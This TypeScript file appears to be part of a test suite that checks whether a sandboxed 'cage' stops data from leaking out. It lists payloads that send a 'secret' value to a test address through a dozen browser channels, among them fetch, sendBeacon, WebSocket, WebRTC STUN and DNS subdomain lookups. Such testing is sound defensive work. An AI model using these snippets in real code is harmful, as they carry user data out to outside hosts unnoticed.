import type { Addresses, Payload } from '../payload.ts';

type Script = (at: Addresses) => string;

/** The plain ways of asking, each by the same text in the cage and in the page that nobody guards. */
const plain = (id: string, channel: string, script: Script, rest: Partial<Payload> = {}): Payload => ({
	id,
	channel,
	realm: 'cage',
	// In braces: what several cells declare at the top is an error on all of them.
	cells: (at) => `\`\`\`ts\n{\n${script(at)}\n}\n\`\`\`\n`,
	control: { kind: 'script', script },
	...rest
});

const soon = 'new Promise((resolve) => setTimeout(resolve, 300))';

export const fetching: readonly Payload[] = [
	plain('fetch', 'fetch', ({ http }) => `await fetch('${http}?' + secret, { mode: 'no-cors' })`),
	plain(
		'fetch-post',
		'fetch',
		({ http }) =>
			`await fetch('${http}', { method: 'POST', body: btoa(secret), mode: 'no-cors', keepalive: true })`
	),
	plain(
		'xhr',
		'XMLHttpRequest',
		({ http }) =>
			`const asked = new XMLHttpRequest(); asked.open('GET', '${http}?' + secret, false); asked.send()`
	),
	plain('send-beacon', 'sendBeacon', ({ http }) => `navigator.sendBeacon('${http}', secret)`),
	plain(
		'event-source',
		'EventSource',
		({ http }) => `new EventSource('${http}x.events?' + secret); await ${soon}`
	),
	plain(
		'web-socket',
		'WebSocket',
		({ ws }) =>
			`const socket = new WebSocket('${ws}?' + secret); socket.onopen = () => socket.send(secret); await ${soon}`
	),
	plain(
		'web-socket-stream',
		'WebSocketStream',
		({ ws }) => `await new WebSocketStream('${ws}?' + secret).opened`,
		{ without: ['chromium', 'firefox'] }
	),
	plain(
		'fetch-later',
		'fetchLater',
		({ http }) => `fetchLater('${http}?' + secret, { activateAfter: 0 }); await ${soon}`,
		{
			without: ['firefox']
		}
	),
	plain('web-transport', 'WebTransport', ({ https }) => `await new WebTransport('${https}?' + secret).ready`),
	plain('dynamic-import', 'import()', ({ http }) => `await import('${http}x.js?' + secret)`),
	plain(
		'import-scripts',
		'importScripts',
		({ http }) => `globalThis.importScripts('${http}x.js?' + secret)`,
		{
			control: {
				kind: 'script',
				script: ({ http }) =>
					`new Worker(URL.createObjectURL(new Blob(["importScripts('${http}x.js?" + secret + "')"])))`
			}
		}
	),
	plain(
		'image-object',
		'new Image',
		({ http }) => `new Image().src = '${http}x.svg?' + secret; await ${soon}`
	),
	plain(
		'web-rtc-stun',
		'WebRTC',
		({ udp }) =>
			`const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp}' }] });\npeer.createDataChannel(secret);\nawait peer.setLocalDescription(await peer.createOffer());\nawait ${soon}`
	),
	plain('host-name', 'DNS', ({ host }) => `await fetch('http://' + secret + '.${host}/')`)
];
